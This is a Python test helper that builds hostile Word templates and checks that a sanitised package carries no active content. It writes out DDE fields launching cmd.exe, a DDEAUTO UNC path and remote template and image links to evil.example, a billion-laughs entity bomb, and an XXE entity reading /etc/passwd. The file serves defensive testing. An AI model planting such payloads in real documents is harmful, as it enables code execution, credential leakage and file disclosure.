"""Hostile Word templates built from the shipped ones, and checks that a package is harmless
(shared by the core and GUI tests of template safety)."""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib

from docx import Document
from lxml import etree

from duban_desktop.io import form_templates
from duban_desktop.system import paths

EVIL = "http://evil.example"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def shipped(kind: str = "notice") -> bytes:
    return form_templates.shipped_path(kind).read_bytes()


def rewrite(data: bytes, edits: dict) -> bytes:
    """A copy of the package with parts changed: name -> new text, function(text) -> text,
    or None to delete; names not in the package are added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        names = src.namelist()
        for name in names + [n for n in edits if n not in names]:
            if name not in edits:
                dst.writestr(name, src.read(name))
                continue
            edit = edits[name]
            if edit is None:
                continue
            old = src.read(name).decode("utf-8") if name in names else ""
            new = edit(old) if callable(edit) else edit
            dst.writestr(name, new.encode("utf-8") if isinstance(new, str) else new)
    return out.getvalue()


def body_append(xml: str):
    """Add paragraphs at the end of the body (before the section properties)."""
    def edit(text: str) -> str:
        at = text.rindex("<w:sectPr")
        return text[:at] + xml + text[at:]
    return edit


def add_rels(*rels: str):
    def edit(text: str) -> str:
        if not text:
            text = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}"></Relationships>'
        return text.replace("</Relationships>", "".join(rels) + "</Relationships>")
    return edit


def rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def run(text: str) -> str:
    return f"<w:r><w:t>{text}</w:t></w:r>"


def complex_field(instruction: list[str], result: str) -> str:
    instr = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>' for part in instruction)
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + instr
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + result
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def picture(blip_attrs: str, pic_id: int = 100) -> str:
    return (f'<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
            f'<wp:extent cx="360000" cy="360000"/><wp:docPr id="{pic_id}" name="图片 {pic_id}"/>'
            f'<a:graphic xmlns:a="{A}"><a:graphicData uri="{PIC}"><pic:pic xmlns:pic="{PIC}">'
            f'<pic:nvPicPr><pic:cNvPr id="{pic_id}" name="p.png"/><pic:cNvPicPr/></pic:nvPicPr>'
            f'<pic:blipFill><a:blip {blip_attrs}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
            f'<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" cy="360000"/></a:xfrm>'
            f'<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
            f'</a:graphic></wp:inline></w:drawing></w:r>')


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def hostile(kind: str = "notice", macro_enabled: bool = False) -> bytes:
    """A shipped template with everything the issue names, and macros, OLE and altChunk;
    ``macro_enabled`` makes it a .docm (which python-docx alone refuses to open)."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    docm = "application/vnd.ms-word.document.macroEnabled.main+xml" if macro_enabled else main
    body = (
        "<w:p>" + run("甲") + complex_field([" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '],
                                           run("DDE的结果")) + "</w:p>"
        + '<w:p><w:fldSimple w:instr=" ddeauto cmd /c calc ">' + run("简单域的结果") + "</w:fldSimple></w:p>"
        + "<w:p>" + complex_field([f' INCLUDEPICTURE "{EVIL}/include.png" \\d '], picture('r:link="rIdInc"'))
        + "</w:p>"
        + "<w:p>" + complex_field([f' HYPERLINK "{EVIL}/field" '], run("域链接文字")) + "</w:p>"
        + '<w:p><w:hyperlink r:id="rIdLink">' + run("超链接文字") + "</w:hyperlink></w:p>"
        + "<w:p>" + picture('r:link="rIdImg"', 101) + "</w:p>"
        + '<w:altChunk r:id="rIdAlt"/>'
        + '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
    )
    footer_dde = complex_field([f' DDEAUTO "\\\\\\\\{EVIL[7:]}\\\\share" '], run("页脚DDE"))
    return rewrite(shipped(kind), {
        "word/document.xml": body_append(body),
        "word/footer1.xml": lambda t: t.replace("</w:p></w:ftr>", footer_dde + "</w:p></w:ftr>"),
        "word/settings.xml": lambda t: t.replace('<w:zoom w:val="bestFit"/>',
                                                 '<w:zoom w:val="bestFit"/><w:attachedTemplate r:id="rIdTpl"/>'),
        "word/_rels/settings.xml.rels": add_rels(rel("rIdTpl", "attachedTemplate", f"{EVIL}/normal.dotm")),
        "word/_rels/document.xml.rels": add_rels(
            rel("rIdInc", "image", f"{EVIL}/include.png"), rel("rIdImg", "image", f"{EVIL}/track.png"),
            rel("rIdLink", "hyperlink", f"{EVIL}/page"), rel("rIdAlt", "aFChunk", "afchunk.mht", False),
            rel("rIdOle", "oleObject", "embeddings/oleObject1.bin", False),
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'),
        "word/afchunk.mht": "<html><body>外来内容</body></html>",
        "word/embeddings/oleObject1.bin": b"OLE",
        "word/vbaProject.bin": b"VBA macro",
        "[Content_Types].xml": lambda t: t.replace(main, docm).replace(
            "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                        '<Override PartName="/word/afchunk.mht" ContentType="message/rfc822"/></Types>'),
    })


def billion_laughs(kind: str = "notice") -> bytes:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)]
    return rewrite(shipped(kind), {"word/document.xml": lambda t: t.replace(
        "?>", "?><!DOCTYPE w:document [" + "".join(levels) + "]>", 1).replace(
        "{{办公室名称}}", "{{办公室名称}}&lol9;", 1)})


def system_entity(kind: str = "notice") -> bytes:
    return rewrite(shipped(kind), {"word/styles.xml": lambda t: t.replace(
        "?>", '?><!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1).replace(
        "</w:styles>", "<!-- &xxe; --></w:styles>")})


# ------------------------------------------------------------------ reading a result


def package_text(data_or_path) -> dict[str, bytes]:
    data = data_or_path if isinstance(data_or_path, bytes) else data_or_path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_harmless(data_or_path) -> None:
    """No part of the package reaches out, runs anything or holds a field but page numbers."""
    parts = package_text(data_or_path)
    assert not any(n.endswith(("vbaProject.bin", ".mht")) or "embeddings/" in n for n in parts), list(parts)
    for name, content in parts.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        text = content.decode("utf-8")
        assert "<!DOCTYPE" not in text and "<!ENTITY" not in text, name
        assert 'TargetMode="External"' not in text and EVIL not in text, name
        for bad in ("attachedTemplate", "altChunk", "OLEObject", "fldSimple", "vbaProject", "macroEnabled"):
            assert bad not in text, (name, bad)
        assert not root.xpath("//*[@r:link]", namespaces={"r": R}), name
        instructions = [t.text.split()[0] for t in root.iter(f"{{{W}}}instrText")]
        assert set(instructions) <= {"PAGE", "NUMPAGES", "SECTIONPAGES"}, (name, instructions)
    Document(io.BytesIO(parts_to_bytes(parts)))  # python-docx reopens it



def parts_to_bytes(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def page_fields(data_or_path) -> list[str]:
    parts = package_text(data_or_path)
    return sorted(re.findall(r"<w:instrText[^>]*>\s*(\w+)", b"".join(
        parts[n] for n in parts if n.startswith("word/footer")).decode("utf-8")))


def put_office_template(kind: str, data: bytes):
    """As if the office had edited its copy in Word after installing it."""
    folder = paths.office_templates_dir()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / form_templates.TEMPLATE_FILES[kind]).write_bytes(data)
